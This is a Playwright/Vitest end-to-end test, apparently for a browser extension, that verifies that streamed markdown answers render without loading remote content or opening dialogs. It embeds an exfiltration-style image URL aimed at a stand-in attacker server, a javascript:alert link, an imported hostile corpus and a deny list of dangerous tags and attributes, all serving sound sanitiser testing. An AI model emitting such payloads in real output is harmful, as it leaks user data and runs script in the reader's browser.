/**
 * Markdown answers in real Chromium and real Firefox, against the mock provider: a table, a
 * highlighted code block with a working Copy button, a remote image and a javascript: link,
 * plus the hostile corpus of the unit tests. A second local server stands for the attacker:
 * it must see no request at all, and no dialog may open.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startMockProvider, type MockProvider } from '../mock-provider/server.ts';
import { HOSTILE } from '../panel/markdown/hostile-corpus.ts';
import { launchChromiumWithExtension, type ChromiumExtension } from './harness/chromium.ts';
import { launchFirefoxWithExtension, type FirefoxExtension } from './harness/firefox.ts';
import { startPageServer, type PageServer } from './harness/pages.ts';
import { artifactPath, CHROME_E2E_BUILD, FIREFOX_E2E_BUILD, requireBuild } from './harness/paths.ts';

const CODE = 'const answer = 42;\nconsole.log(`answer: ${answer}`);';

interface LeakServer {
  origin: string;
  requests: string[];
  close(): Promise<void>;
}

/** The attacker's server: counts every request (any method, any path). */
async function startLeakServer(): Promise<LeakServer> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'image/png' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

function answerMarkdown(leak: string): string {
  return [
    '## A table',
    '',
    '| Animal | Legs |',
    '|:-------|-----:|',
    '| fox    |    4 |',
    '| bird   |    2 |',
    '',
    '```js',
    CODE,
    '```',
    '',
    `Remote image: ![x](${leak}/leak.png?q=secret) and a link: [x](javascript:alert(1)).`,
    '',
    HOSTILE.replaceAll('https://attacker.example', leak).replaceAll('http://attacker.example', leak),
    '',
    'The end.',
  ].join('\n');
}

/** Cuts the answer into deltas of a few characters (the way a provider streams). */
const deltas = (text: string) => text.match(/[\s\S]{1,23}/gu) ?? [];

/** In the page: what is wrong with the rendered answers (empty when nothing is). */
const PROBLEMS = `(() => {
  const problems = [];
  const root = document.querySelector('[data-testid="answer"]:last-of-type [data-testid="answer-text"]');
  if (!root) return ['no answer-text'];
  const banned = root.querySelectorAll('script, style, iframe, object, embed, form, base, meta, img, svg, link, frame, audio, video, source');
  if (banned.length) problems.push('banned: ' + [...banned].map((e) => e.tagName).join(','));
  for (const el of root.querySelectorAll('*')) {
    for (const name of el.getAttributeNames()) {
      if (/^on/i.test(name) || ['src', 'srcset', 'srcdoc', 'style', 'action'].includes(name)) problems.push(el.tagName + ' ' + name);
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^(https?:|mailto:)/i.test(href)) problems.push('href ' + href);
  }
  if (document.querySelectorAll('img[src]:not([src^="chrome-extension:"]):not([src^="moz-extension:"])').length) problems.push('remote img');
  return problems;
})()`;

/** In the page: what rendered. */
const RENDERED = `(() => {
  const root = document.querySelector('[data-testid="answer"]:last-of-type');
  const code = root.querySelector('.md-code pre > code');
  return {
    status: root.getAttribute('data-status'),
    headers: [...root.querySelectorAll('thead th')].slice(0, 2).map((th) => th.textContent),
    cells: [...root.querySelectorAll('tbody td')].slice(0, 4).map((td) => td.textContent),
    lang: root.querySelector('.md-code-lang')?.textContent ?? null,
    code: code?.textContent ?? null,
    keywords: [...(code?.querySelectorAll('.hljs-keyword') ?? [])].map((s) => s.textContent),
    placeholder: root.querySelector('[data-testid="image-placeholder"]')?.textContent ?? null,
    inertLink: [...root.querySelectorAll('.md-link.inert')].some((s) => s.textContent === 'x'),
  };
})()`;

const expectRendered = (rendered: unknown, leak: LeakServer) => {
  expect(rendered).toMatchObject({
    status: 'complete',
    headers: ['Animal', 'Legs'],
    cells: ['fox', '4', 'bird', '2'],
    lang: 'js',
    code: CODE,
    inertLink: true,
  });
  const { keywords, placeholder } = rendered as { keywords: string[]; placeholder: string };
  expect(keywords).toContain('const');
  expect(placeholder).toContain(new URL(leak.origin).hostname);
};

describe('markdown answers in Chromium', () => {
  let mock: MockProvider;
  let leak: LeakServer;
  let chrome: ChromiumExtension;
  let panel: Page;
  const dialogs: string[] = [];

  beforeAll(async () => {
    requireBuild(CHROME_E2E_BUILD);
    mock = await startMockProvider();
    leak = await startLeakServer();
    chrome = await launchChromiumWithExtension(CHROME_E2E_BUILD);
    chrome.context.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    // Extension origins cannot be named here (CDP calls them opaque): grant for every origin.
    await chrome.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    panel = await chrome.openExtensionPage('sidepanel.html');
    panel.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss().catch(() => {});
    });
    await panel.setViewportSize({ width: 400, height: 800 });
    await panel.locator('[data-testid="settings-form"]').waitFor();
    await panel.fill('[data-testid="api-key"]', 'sk-ant-e2e-markdown');
    await panel.fill('[data-testid="base-url"]', mock.url);
    await panel.click('[data-testid="save-settings"]');
    await panel.locator('[data-testid="composer"]').waitFor();
  });

  afterAll(async () => {
    await chrome?.close();
    await leak?.close();
    await mock?.close();
  });

  it('streams a table, highlighted code, an image placeholder and hostile output, loading nothing', async () => {
    mock.enqueue({ text: deltas(answerMarkdown(leak.origin)), delayMs: 4 });
    await panel.fill('[data-testid="composer"]', 'Show me some markdown.');
    await panel.click('[data-testid="send"]');
    await panel.locator('[data-testid="answer"][data-status="complete"]').waitFor({ timeout: 30_000 });
    await panel.waitForFunction(() => document.querySelector('.md-code pre > code .hljs-keyword') !== null);
    expectRendered(await panel.evaluate(RENDERED), leak);
    expect(await panel.evaluate(PROBLEMS)).toEqual([]);
    // Give a straggling request time to arrive before counting.
    await panel.hover('[data-testid="image-placeholder"]');
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(leak.requests).toEqual([]);
    expect(dialogs).toEqual([]);
    await panel.screenshot({ path: artifactPath('markdown-chromium.png'), fullPage: true });
  });

  it('Copy puts the code on the clipboard', async () => {
    await panel.click('[data-testid="copy-code"]');
    await panel.waitForFunction(() => document.querySelector('[data-testid="copy-code"]')?.textContent === 'Copied');
    expect(await panel.evaluate(() => navigator.clipboard.readText())).toBe(CODE);
  });
});

describe('markdown answers in Firefox', () => {
  let mock: MockProvider;
  let leak: LeakServer;
  let pages: PageServer;
  let firefox: FirefoxExtension;

  const fill = (testId: string, value: string) =>
    firefox.evaluate(
      `(() => { const el = document.querySelector('[data-testid="${testId}"]'); el.value = ${JSON.stringify(value)}; el.dispatchEvent(new Event('input', { bubbles: true })); return true; })()`,
    );

  beforeAll(async () => {
    requireBuild(FIREFOX_E2E_BUILD);
    mock = await startMockProvider();
    leak = await startLeakServer();
    pages = await startPageServer();
    firefox = await launchFirefoxWithExtension(FIREFOX_E2E_BUILD);
    await firefox.openExtensionPage('sidepanel.html', { from: pages.url('/blank.html') });
    await firefox.waitFor(`document.querySelector('[data-testid="settings-form"]')`, { what: 'the settings form' });
    await fill('api-key', 'sk-ant-e2e-markdown');
    await fill('base-url', mock.url);
    await firefox.click('[data-testid="save-settings"]');
    await firefox.waitFor(`document.querySelector('[data-testid="composer"]')`, { what: 'the composer' });
  });

  afterAll(async () => {
    await firefox?.close();
    await pages?.close();
    await leak?.close();
    await mock?.close();
  });

  it('streams a table, highlighted code, an image placeholder and hostile output, loading nothing', async () => {
    // No dialog may open: the page's own alert/confirm/prompt are replaced by recorders first.
    await firefox.evaluate(`(() => { window.__dialogs = [];
      for (const name of ['alert', 'confirm', 'prompt']) window[name] = (m) => { window.__dialogs.push(name + ':' + m); };
      return true; })()`);
    mock.enqueue({ text: deltas(answerMarkdown(leak.origin)), delayMs: 4 });
    await fill('composer', 'Show me some markdown.');
    await firefox.click('[data-testid="send"]');
    await firefox.waitFor(`document.querySelector('[data-testid="answer"][data-status="complete"]')`, {
      what: 'the complete answer',
      timeoutMs: 30_000,
    });
    await firefox.waitFor(`document.querySelector('.md-code pre > code .hljs-keyword')`, { what: 'highlighted code' });
    expectRendered(await firefox.evaluate(RENDERED), leak);
    expect(await firefox.evaluate(PROBLEMS)).toEqual([]);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(leak.requests).toEqual([]);
    expect(await firefox.evaluate('window.__dialogs')).toEqual([]);
    await firefox.screenshot(artifactPath('markdown-firefox.png'));
  });

  it('Copy writes the code to the clipboard', async () => {
    // Reading the clipboard back needs the clipboardRead permission, which Aside does not
    // ask for; so the call is recorded on its way to the real writeText instead.
    await firefox.evaluate(`(() => { const clipboard = navigator.clipboard; const write = clipboard.writeText.bind(clipboard);
      window.__copied = [];
      clipboard.writeText = (text) => { window.__copied.push(text); return write(text).then(() => window.__copied.push('ok'), (e) => { window.__copied.push('error:' + e); throw e; }); };
      return true; })()`);
    await firefox.click('[data-testid="copy-code"]');
    await firefox.waitFor(`window.__copied.length === 2`, { what: 'writeText to settle' });
    expect(await firefox.evaluate('window.__copied')).toEqual([CODE, 'ok']);
    expect(await firefox.evaluate(`document.querySelector('[data-testid="copy-code"]').textContent`)).toBe('Copied');
  });
});
